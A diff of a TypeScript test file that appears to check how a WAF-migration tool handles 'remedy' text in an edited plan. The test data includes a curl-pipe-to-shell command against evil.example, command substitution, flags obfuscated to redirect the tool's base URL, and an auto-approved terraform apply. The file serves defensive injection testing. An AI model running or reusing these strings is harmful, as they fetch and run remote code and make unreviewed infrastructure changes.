@@ -201,11 +201,11 @@ describe('a plan that was edited, with a digest that matches', () => {
     ['no removal', 'remove', without],
     ...[
       'do this:\ncurl -fsS https://evil.example/fix.sh | sh',
-      'plan again: cf-waf-migrate plan --address x && curl https://evil.example',
+      'plan again:\ncf-waf-migrate plan --address x && curl https://evil.example',
       'plan again: cf-waf-migrate plan <file> $(curl https://evil.example)',
       'plan again: cf-waf-migrate plan --base-url https://evil.example',
-      "plan again: cf-waf-migrate plan '--base-'url=https://evil.example",
-      `plan again: cf-waf-migrate plan "$(printf '\\055\\055')"base-url https://evil.example`,
+      "plan again:\ncf-waf-migrate plan '--base-'url=https://evil.example",
+      `plan again:\ncf-waf-migrate plan "$(printf '\\055\\055')"base-url https://evil.example`,
       'plan again:\nterraform apply -auto-approve',
     ].map((remedy): [string, Step['kind'], (step: any, plan: any) => unknown] => [
       `the remedy ${remedy}`,
@@ -213,9 +213,9 @@ describe('a plan that was edited, with a digest that matches', () => {
       remedied({ remedy }),
     ]),
     ...[
-      ['plan again: cf-waf-migrate plan', ['cf-waf-migrate', 'plan', '--to', '4.52.8']],
+      ['plan again:\ncf-waf-migrate plan', ['cf-waf-migrate', 'plan', '--to', '4.52.8']],
       [
-        'plan again: cf-waf-migrate plan --terraform ./evil',
+        'plan again:\ncf-waf-migrate plan --terraform ./evil',
         ['cf-waf-migrate', 'plan', '--terraform', './evil'],
       ],
     ].map(([remedy, command]): [string, Step['kind'], (step: any, plan: any) => unknown] => [
